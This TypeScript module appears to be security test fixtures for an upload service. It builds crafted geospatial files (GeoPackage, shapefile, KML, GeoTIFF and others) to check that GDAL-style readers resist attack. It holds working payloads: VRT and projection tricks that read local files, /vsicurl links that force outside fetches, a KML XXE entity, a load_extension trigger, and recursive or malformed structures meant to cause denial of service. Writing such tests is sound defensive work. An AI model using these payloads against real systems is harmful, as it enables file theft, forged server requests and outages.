import { readFileSync } from 'node:fs';
import type { SeedFiles } from '../../fuzz/seed-files.ts';
import { boundaries, geoParquet, shapefile, taskData, writtenByGdal } from '../../fuzz/seed-files.ts';
import { geoTiff, rasterZip } from '../machine-files/adapt-raster-set.ts';
import { zipOf } from '../machine-files/harvest-text.ts';
import { geoPackageAt, schemaRow } from './geopackage-file.ts';

/** Targets of an attack: a file of the machine, and a URL. */
export interface Prey {
  path: string;
  address: string;
}

type Upload = { name: string; bytes: Uint8Array };
type Attack = (prey: Prey) => Promise<Upload> | Upload;

const packed = (files: Record<string, string | Uint8Array>): Upload => ({ name: 'upload.zip', bytes: zipOf(files) });
const bare = (files: SeedFiles): Upload => {
  const [[name, bytes] = ['', Buffer.alloc(0)]] = Object.entries(files);
  return { name, bytes };
};
const virtualRaster = ({ path }: Prey) =>
  `<VRTDataset rasterXSize="20" rasterYSize="10"><VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename relativeToVRT="0">${path}</SourceFilename></VRTRasterBand></VRTDataset>`;
const virtualLayer = ({ address }: Prey) =>
  `<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/${address}/a.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>`;
const metadata = (items: string) => `<GDALMetadata>${items}</GDALMetadata>`;

async function database(...statements: string[]): Promise<Upload> {
  return { name: 'fields.gpkg', bytes: readFileSync(await geoPackageAt(statements)) };
}

/** A GeoTIFF whose overviews and masks are declared to be elsewhere. */
async function leadingTiff(target: string): Promise<Buffer> {
  return geoTiff({
    finish(dataset) {
      dataset.setMetadata({ OVERVIEW_FILE: target }, 'OVERVIEWS');
      dataset.bands.get(1).setMetadata({ OVERVIEW_FILE: target, INTERNAL_MASK_FLAGS_1: '2' }, 'OVERVIEWS');
      dataset.bands.get(1).setMetadata({ source_0: target }, 'vrt_sources');
    },
  });
}

/** A TIFF whose directory follows itself, and whose strips overlap. */
async function circularTiff(): Promise<Buffer> {
  const tiff = await geoTiff();
  const directory = tiff.readUInt32LE(4);
  const entries = tiff.readUInt16LE(directory);
  tiff.writeUInt32LE(directory, directory + 2 + entries * 12);
  for (let entry = 0; entry < entries; entry++) {
    const at = directory + 2 + entry * 12;
    // SubIFDs take the position of the software's name or of the last entry.
    if (entry === entries - 1) tiff.writeUInt16LE(330, at);
  }
  return tiff;
}

async function hugeTiff(): Promise<Buffer> {
  const tiff = await geoTiff({ options: ['COMPRESS=DEFLATE', 'TILED=YES', 'BLOCKXSIZE=16', 'BLOCKYSIZE=16'] });
  const directory = tiff.readUInt32LE(4);
  for (let entry = 0; entry < tiff.readUInt16LE(directory); entry++) {
    const at = directory + 2 + entry * 12;
    // Width, length, and the two of a tile, all as numbers of four bytes.
    if (![256, 257, 322, 323].includes(tiff.readUInt16LE(at))) continue;
    tiff.writeUInt16LE(4, at + 2);
    tiff.writeUInt32LE(0x7ffffff0, at + 8);
  }
  return tiff;
}

function withProjection(text: string): Upload {
  return packed({ ...shapefile(), 'fields.prj': text });
}

function circularFlatGeobuf(): Upload {
  const { 'fields.fgb': bytes = Buffer.alloc(0) } = writtenByGdal('FlatGeobuf', 'fields.fgb');
  const root = 12 + bytes.readUInt32LE(12);
  // The table's own table of offsets is the table, and each of its offsets leads back.
  bytes.writeInt32LE(0, root);
  for (let at = root + 4; at < root + 40; at += 4) bytes.writeInt32LE(-4, at);
  return { name: 'fields.fgb', bytes };
}

async function projectedParquet(crs: unknown): Promise<Upload> {
  const { 'fields.parquet': bytes = Buffer.alloc(0) } = await geoParquet('uncompressed');
  const text = bytes
    .toString('latin1')
    .replace(/"geometry_types":\["MultiPolygon"\]/, (found) =>
      `"crs":${JSON.stringify(crs)}`.padEnd(found.length).slice(0, found.length),
    );
  return { name: 'fields.parquet', bytes: Buffer.from(text, 'latin1') };
}

const endless = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)';

/** Known attacks on readers of boundaries. */
export const boundaryAttacks: [name: string, attack: Attack][] = [
  [
    'a GeoPackage: VirtualText behind a view',
    ({ path }) =>
      database(
        ...schemaRow(
          'table',
          't',
          0,
          `CREATE VIRTUAL TABLE t USING VirtualText('${path}', 'UTF-8', 1, POINT, NONE, ':')`,
        ),
        'CREATE VIEW v AS SELECT * FROM t',
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, last_change) VALUES ('v', 'attributes', 'v', '2024-01-01T00:00:00Z')",
      ),
  ],
  [
    'a GeoPackage: an endless view',
    () =>
      database(
        `CREATE VIEW v AS ${endless} SELECT max(i) AS fid FROM n`,
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, last_change) VALUES ('v', 'attributes', 'v', '2024-01-01T00:00:00Z')",
      ),
  ],
  [
    'a GeoPackage: a trigger that loads code',
    ({ path }) => database(`CREATE TRIGGER t AFTER INSERT ON fields BEGIN SELECT load_extension('${path}'); END`),
  ],
  [
    'a GeoPackage: a trigger on reading counters',
    () =>
      database(
        `CREATE TRIGGER t BEFORE UPDATE ON gpkg_contents BEGIN ${endless.replace('WITH', 'INSERT INTO fields(fid) WITH')} SELECT i FROM n; END`,
      ),
  ],
  [
    'a GeoPackage: a system of coordinates that is a file',
    ({ path }) =>
      database(
        `UPDATE gpkg_spatial_ref_sys SET organization = 'x', organization_coordsys_id = 1, definition = '+proj=longlat +nadgrids=${path} +no_defs'`,
      ),
  ],
  [
    'a GeoPackage: a system of coordinates that is a URL',
    ({ address }) =>
      database(
        `UPDATE gpkg_spatial_ref_sys SET organization = 'x', organization_coordsys_id = 1, definition = '/vsicurl/${address}/x'`,
      ),
  ],
  [
    'a GeoPackage: a layer that is called like a file',
    ({ path }) =>
      database(
        `ALTER TABLE fields RENAME TO "${path}"`,
        `UPDATE gpkg_contents SET table_name = '${path}'`,
        `UPDATE gpkg_geometry_columns SET table_name = '${path}'`,
      ),
  ],
  [
    'a GeoPackage: metadata that leads away',
    ({ path }) =>
      database(
        'CREATE TABLE gpkg_metadata (id INTEGER PRIMARY KEY, md_scope TEXT, md_standard_uri TEXT, mime_type TEXT, metadata TEXT)',
        `INSERT INTO gpkg_metadata VALUES (1, 'dataset', 'http://gdal.org', 'text/xml', '${`<GDALMultiDomainMetadata><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">${path}</MDI></Metadata></GDALMultiDomainMetadata>`}')`,
      ),
  ],
  [
    'a virtual layer that is called a GeoPackage',
    (prey) => ({ name: 'fields.gpkg', bytes: Buffer.from(virtualLayer(prey)) }),
  ],
  [
    'a shapefile with a virtual layer for shapes',
    (prey) => packed({ ...shapefile(), 'fields.shp': virtualLayer(prey) }),
  ],
  ['a shapefile: a projection that is a file', ({ path }) => withProjection(`+init=${path}:1`)],
  [
    'a shapefile: a grid that is a file',
    ({ path }) => withProjection(`+proj=longlat +ellps=GRS80 +nadgrids=${path} +no_defs`),
  ],
  ['a shapefile: a projection that is a URL', ({ address }) => withProjection(`${address}/x.prj`)],
  [
    'a shapefile: its index, code page and table elsewhere',
    ({ path, address }) =>
      packed({
        ...shapefile(),
        'fields.cpg': path,
        'fields.qix': `SQT\u0001${path}`,
        'fields.idm': path,
        'fields.sbn': `/vsicurl/${address}`,
        'fields.shp.xml': `<!DOCTYPE x SYSTEM "${address}"><x/>`,
      }),
  ],
  [
    'a geodatabase with a virtual raster for a table',
    (prey) =>
      packed({ ...writtenByGdal('OpenFileGDB', 'fields.gdb'), 'fields.gdb/a00000001.gdbtable': virtualRaster(prey) }),
  ],
  [
    'a geodatabase with SQLite for a table',
    async (prey) =>
      packed({
        ...writtenByGdal('OpenFileGDB', 'fields.gdb'),
        'fields.gdb/a00000001.gdbtable': (await boundaryAttacks[0]?.[1](prey))?.bytes ?? '',
      }),
  ],
  ['a FlatGeobuf whose tables lead to themselves', circularFlatGeobuf],
  [
    'a FlatGeobuf that is a virtual layer',
    (prey) => ({
      name: 'fields.fgb',
      bytes: Buffer.concat([Buffer.from('fgb\u0003fgb\u0001', 'latin1'), Buffer.from(virtualLayer(prey))]),
    }),
  ],
  ['GeoParquet: a system that is a file', ({ path }) => projectedParquet(path)],
  [
    'GeoJSON: a system that is a URL',
    ({ address }) =>
      bare({
        'fields.geojson': Buffer.from(
          boundaries.replace('{', `{"crs":{"type":"link","properties":{"href":"${address}/x","type":"proj4"}},`),
        ),
      }),
  ],
  [
    'GeoJSON: a system that is a file',
    ({ path }) =>
      bare({
        'fields.geojson': Buffer.from(
          boundaries.replace('{', `{"crs":{"type":"name","properties":{"name":"+init=${path}:1"}},`),
        ),
      }),
  ],
  [
    'KML: an entity that is a file',
    ({ path }) =>
      bare({
        'fields.kml': Buffer.from(
          `<!DOCTYPE kml [<!ENTITY e SYSTEM "file://${path}">]><kml><Placemark><name>&e;</name></Placemark></kml>`,
        ),
      }),
  ],
  [
    'KML: a link',
    ({ address }) =>
      bare({
        'fields.kml': Buffer.from(`<kml><NetworkLink><Link><href>${address}/x.kml</href></Link></NetworkLink></kml>`),
      }),
  ],
  [
    'task data: a part that is elsewhere',
    ({ path }) =>
      packed(
        Object.fromEntries(
          Object.entries(taskData()).map(([name, bytes]) => [
            name,
            bytes.toString().replace('<PFD', `<XFR A="${path}" B="1"/><PFD`),
          ]),
        ),
      ),
  ],
];

/** Known attacks on readers of machine images. */
export const rasterAttacks: [name: string, attack: Attack][] = [
  [
    'a virtual raster that is called a GeoTIFF',
    (prey) => ({ name: 'upload.zip', bytes: rasterZip(Buffer.from(virtualRaster(prey))) }),
  ],
  ['overviews in a file', async ({ path }) => ({ name: 'upload.zip', bytes: rasterZip(await leadingTiff(path)) })],
  [
    'overviews at a URL',
    async ({ address }) => ({ name: 'upload.zip', bytes: rasterZip(await leadingTiff(`/vsicurl/${address}/x.tif`)) }),
  ],
  ['a directory that follows itself', async () => ({ name: 'upload.zip', bytes: rasterZip(await circularTiff()) })],
  ['more pixels than any machine holds', async () => ({ name: 'upload.zip', bytes: rasterZip(await hugeTiff()) })],
];

/** Files beside an image that refer elsewhere. */
export const besideRaster = (prey: Prey): Record<string, string> => ({
  'export/Harvest.tif.aux.xml': `<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">${prey.path}</MDI></Metadata><PAMRasterBand band="1"><MaskBand/></PAMRasterBand></PAMDataset>`,
  'export/Harvest.tif.ovr': virtualRaster(prey),
  'export/Harvest.tif.msk': virtualRaster(prey),
  'export/Harvest.IMD': metadata(prey.path),
});
